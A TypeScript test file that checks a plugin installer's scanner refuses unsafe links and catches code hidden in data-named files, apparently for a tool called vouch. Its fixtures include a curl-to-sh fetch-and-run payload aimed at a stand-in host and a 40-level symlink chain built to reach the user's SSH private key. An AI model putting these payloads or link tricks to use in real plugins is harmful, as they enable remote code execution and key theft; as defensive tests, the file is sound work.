/**
 * What the runtime can execute is scanned as code, whatever its name, and what leaves the
 * plugin is refused (D21), through the CLI against plugins served over git smart HTTP on
 * 127.0.0.1: a link that reaches the user's home through another in-plugin link is refused at
 * install, and code hidden in a data-named file (behind an `__init__.py` link, or run through
 * `exec(open(...).read())`) meets the scan gate like any other code. A load the scanner
 * cannot follow counts as a high-severity finding.
 */
import assert from 'node:assert/strict';
import {
	existsSync,
	mkdirSync,
	readdirSync,
	symlinkSync,
	unlinkSync,
	writeFileSync,
} from 'node:fs';
import { join, relative } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { type CliRun, parseJson } from '../helpers/cli.ts';
import { createWorld, type World } from './world.ts';

let world: World;

const errorCode = (run: CliRun) => (parseJson(run).error as { code?: string } | undefined)?.code;

/** An import-time shell command: high severity whatever file it sits in. */
const PAYLOAD = 'import os\nos.system("curl -s https://example.invalid/x | sh")\n';

function assertNothingInstalled(prefix: string): void {
	assert.deepEqual(
		world.pluginDirs().filter((name) => name.startsWith(prefix)),
		[],
	);
	const staging = join(world.profile.pluginsDir, '.vouch-staging');
	if (existsSync(staging)) assert.deepEqual(readdirSync(staging), []);
}

async function install(url: string, extra: string[] = []): Promise<CliRun> {
	return world.vouch([
		'install',
		url,
		'--registry',
		world.registryFile,
		'--yes',
		'--json',
		...extra,
	]);
}

before(async () => {
	world = await createWorld();
});
after(() => world.close());

describe('links are judged by where they really lead', () => {
	it('refuses a link that reaches the home directory through an in-plugin directory link', async () => {
		const home = world.env.HOME as string;
		mkdirSync(join(home, '.ssh'), { recursive: true });
		writeFileSync(join(home, '.ssh', 'id_ed25519'), 'PRIVATE KEY\n');
		const plugin = world.serve({
			name: 'through-a-link',
			uuid: '7d8e9f0a-1b2c-4d3e-8f4a-5b6c7d8e9f0a',
		});
		// `d0/.../d39/up` really is `d0`, so `up/..` climbs two levels where the text climbs
		// one: forty of them reach `/` from wherever the clone lands, while the link's text
		// still names a path inside the plugin.
		const chain = Array.from({ length: 40 }, (_, i) => `d${i}`);
		mkdirSync(join(plugin.repo.dir, ...chain), { recursive: true });
		symlinkSync('../'.repeat(chain.length - 1), join(plugin.repo.dir, ...chain, 'up'));
		const target = `${chain.join('/')}/up/${'../'.repeat(chain.length)}${relative('/', join(home, '.ssh', 'id_ed25519'))}`;
		assert.equal(relative('/plugin', join('/plugin', target)).startsWith('..'), false);
		symlinkSync(target, join(plugin.repo.dir, 'key.txt'));
		plugin.repo.commit({});
		world.publish(plugin);
		const run = await install(plugin.url);
		assert.equal(run.code, 1, run.stdout + run.stderr);
		assert.equal(errorCode(run), 'UNSAFE_CONTENT');
		assertNothingInstalled('through_a_link');
	});

	it('refuses a dangling link and a loop', async () => {
		const plugin = world.serve({ name: 'dangling', uuid: '8e9f0a1b-2c3d-4e4f-9a5b-6c7d8e9f0a1b' });
		symlinkSync('missing.py', join(plugin.repo.dir, 'helper.py'));
		symlinkSync('b.py', join(plugin.repo.dir, 'a.py'));
		symlinkSync('a.py', join(plugin.repo.dir, 'b.py'));
		plugin.repo.commit({});
		world.publish(plugin);
		const run = await install(plugin.url);
		assert.equal(run.code, 1, run.stdout + run.stderr);
		assert.equal(errorCode(run), 'UNSAFE_CONTENT');
		assertNothingInstalled('dangling');
	});
});

describe('code by any name meets the scan gate', () => {
	it('finds the payload of an __init__.py that links to payload.txt', async () => {
		const plugin = world.serve({
			name: 'linked-init',
			uuid: '9f0a1b2c-3d4e-4f5a-8b6c-7d8e9f0a1b2c',
			files: { 'payload.txt': PAYLOAD },
		});
		unlinkSync(join(plugin.repo.dir, '__init__.py'));
		symlinkSync('payload.txt', join(plugin.repo.dir, '__init__.py'));
		plugin.repo.commit({});
		world.publish(plugin);
		const run = await install(plugin.url);
		assert.equal(run.code, 1, run.stdout + run.stderr);
		assert.equal(errorCode(run), 'FINDINGS_NOT_ACCEPTED');
		assert.match(run.stderr, /__init__\.py:2 \[/);
		assertNothingInstalled('linked_init');
		// The link stays inside the plugin: with the findings accepted, it installs.
		const accepted = await install(plugin.url, ['--accept-findings']);
		assert.equal(accepted.code, 0, accepted.stdout + accepted.stderr);
	});

	it('finds the payload of a data file run by exec(open(...).read())', async () => {
		const plugin = world.serve({
			name: 'exec-data',
			uuid: '0a1b2c3d-4e5f-4a6b-9c7d-8e9f0a1b2c3d',
			files: { '__init__.py': "exec(open('data.dat').read())\n", 'data.dat': PAYLOAD },
		});
		world.publish(plugin);
		const run = await install(plugin.url);
		assert.equal(run.code, 1, run.stdout + run.stderr);
		assert.equal(errorCode(run), 'FINDINGS_NOT_ACCEPTED');
		assert.match(run.stderr, /data\.dat:2 \[/);
	});

	it('counts a load from a computed path like a high-severity finding', async () => {
		const plugin = world.serve({
			name: 'computed-load',
			uuid: '1b2c3d4e-5f6a-4b7c-8d8e-9f0a1b2c3d4e',
			files: {
				'__init__.py': 'import runpy\n\ndef enable(api):\n    runpy.run_path(api.name + ".dat")\n',
			},
		});
		world.publish(plugin);
		const run = await install(plugin.url);
		assert.equal(run.code, 1, run.stdout + run.stderr);
		assert.equal(errorCode(run), 'FINDINGS_NOT_ACCEPTED');
		assert.match(
			run.stderr,
			/__init__\.py:4 \(runs code from a file the scanner cannot determine\)/,
		);
	});
});
